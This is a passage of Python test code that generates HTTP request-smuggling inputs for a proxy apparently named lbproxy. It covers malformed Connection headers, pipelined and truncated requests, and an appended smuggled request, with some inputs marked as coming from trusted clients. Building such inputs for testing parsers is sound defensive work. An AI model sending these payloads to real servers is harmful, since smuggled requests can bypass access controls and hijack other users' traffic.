    yield "cookies-90", get(fields=b"".join(b"Cookie: c%d=v\r\n" % n for n in range(90))) + SMUGGLED
    yield "head-30k", get(fields=b"".join(b"A%d: %s\r\n" % (n, b"v" * 700) for n in range(42))) + SMUGGLED


def connections():
    """Connection options and persistence."""
    values = (
        b"close", b"Close", b"keep-alive", b"close, keep-alive", b"keep-alive, close", b"", b",", b",,close,,",
        b"close;x", b"x y", b"close\x0b", b"\xa0close", b"X-Forwarded-For", b"X-Request-Id", b"cookie", b"a" * 300,
        b",".join([b"a"] * 64), b",".join([b"a"] * 65), b"upgrade", b"close, upgrade", b"te",
        b"x-forwarded-for, x-real-ip, forwarded", b"Keep-Alive, x", b'"close"', b"connection", b"@",
    )
    for number, value in enumerate(values):
        fields = b"Connection: " + value + b"\r\n"
        yield f"get-{number:02}", get(fields=fields + b"Cookie: a=b\r\nX: y\r\n") + SMUGGLED
        yield f"post-{number:02}", post(fields + length_field(5), b"hello" + SMUGGLED)
        yield f"get-10-{number:02}", get(fields=fields, version=b"HTTP/1.0") + SMUGGLED
    yield "twice", get(fields=b"Connection: keep-alive\r\nConnection: close\r\n") + SMUGGLED
    yield "underscore", get(fields=b"Connection_: close\r\nConn_ection: close\r\n") + SMUGGLED


def pipelines():
    """Several requests in one go, and what is left behind a whole one."""
    yield "three", get(b"/1") + get(b"/2") + get(b"/3")
    yield "mixed", post(length_field(5), b"hello") + post(CHUNKED,
                                                          chunks(b"hello")) + get(b"/3", method=b"HEAD") + SMUGGLED
    yield "twenty", b"".join(get(b"/p%d" % n) for n in range(20))
    yield "bodies", b"".join(post(length_field(3), b"abc", target=b"/b%d" % n) for n in range(10))
    yield "chunked", b"".join(post(CHUNKED, chunks(b"abc"), target=b"/c%d" % n) for n in range(10))
    yield "heads", get(b"/1", method=b"HEAD") + get(b"/2", method=b"HEAD") + SMUGGLED
    for number, rest in enumerate(
        (
            b"X", b"GET", b"GET ", b"GET /x", b"GET /x HTTP/1.1\r\nX: ", b"\0", b"0\r\n\r\n", b"hello",
            b"GET /x HTTP/1.1\r\nHost: a\r\n", b"POST /x HTTP/1.1\r\nHost: a\r\nContent-Length: 500\r\n\r\n"
        )
    ):
        yield f"rest-{number}", get(b"/1") + rest
        yield f"rest-body-{number}", post(length_field(5), b"hello" + rest)
        yield f"rest-chunked-{number}", post(CHUNKED, chunks(b"hello") + rest)


GROUPS = {
    "both framings": both_framings, "transfer-encoding": codings, "content-length": lengths, "unframed bodies":
    bodies_without_framing, "expect": expectations, "upgrade": upgrades, "chunks": chunk_syntax, "trailers": trailers,
    "targets": targets, "hosts": hosts, "request line": request_lines, "line ends": line_ends, "fields": field_names,
    "connection": connections, "pipelines": pipelines,
}


def gadgets():
    """All of them. About every fourth comes from a client that lbproxy trusts."""
    found = []
    for group, make in GROUPS.items():
        for name, raw in make():
            found.append(Input(f"gadget/{group}/{name}", group, raw, trusted=len(found) % 4 == 3))
    return found
